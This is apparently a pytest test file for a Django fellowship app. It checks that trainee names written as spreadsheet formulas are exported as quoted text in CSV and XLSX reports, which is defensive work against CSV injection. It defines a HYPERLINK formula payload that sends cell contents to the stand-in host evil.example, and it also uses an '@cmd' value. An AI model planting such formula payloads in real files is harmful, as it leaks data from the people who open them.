"""A name that is a spreadsheet formula stays text in every report export (OWASP's rule)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from fellowship.reports import tables

from .helpers import alumnus_for

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'


def download(world, fmt, **params):
    url = reverse("reports:download", kwargs={"program": world.program.slug, "format": fmt})
    return url, {"part": 1, "first": 2020, "last": 2024, **params}


def first_cells_csv(response) -> list[str]:
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    return [row[0] for row in rows[1:]]


@pytest.mark.parametrize("table", [tables.TRAINEE_PUBLICATIONS, tables.TRAINEE_OUTCOMES_POSTDOC])
def test_tables_5_and_8_quote_a_formula_name(client, world, table):
    alumnus_for(world, last_name=HOSTILE)
    client.force_login(world.director)
    url, params = download(world, "csv", table=table)
    names = first_cells_csv(client.get(url, params))
    assert names and all(name.startswith("'" + HOSTILE) for name in names)

    url, params = download(world, "xlsx", table=table)
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url, params).content)).active
    cell = sheet.cell(2, 1)
    assert cell.data_type == "s"  # text, not a formula ("f")
    assert cell.value.startswith("'" + HOSTILE)


def test_rppr_summaries_csv_quotes_a_formula_name(client, world):
    world.fellow_record.last_name = "@cmd"
    world.fellow_record.save()
    client.force_login(world.coordinator)
    url = reverse(
        "reports:summaries_download", kwargs={"program": world.program.slug, "format": "csv"}
    )
    names = first_cells_csv(client.get(url, {"year": 2026}))
    assert "'@cmd, " + world.fellow_record.first_name in names
